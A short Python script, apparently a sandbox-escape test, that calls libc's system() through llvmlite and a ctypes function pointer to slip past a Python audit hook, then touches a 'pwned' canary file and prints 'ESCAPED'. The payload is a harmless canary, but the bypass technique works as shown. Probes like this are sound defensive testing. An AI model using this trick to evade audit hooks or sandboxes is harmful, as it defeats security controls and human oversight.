"""Call libc's system() through llvmlite + a ctypes function pointer: native code, no audit event.

numba loads llvmlite and ctypes before the audit hook, so this reaches past the hook;
only the namespaces (and dropped privileges) can hold it.
"""

import ctypes
import json
import sys

import llvmlite.binding as llvm
import numba  # noqa: F401  (what makes llvmlite and ctypes already loaded)

cfg = json.loads(sys.argv[1])
llvm.load_library_permanently("libc.so.6")
system = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(llvm.address_of_symbol("system"))
system(f"touch {cfg['canary_dir']}/pwned && echo ESCAPED".encode())
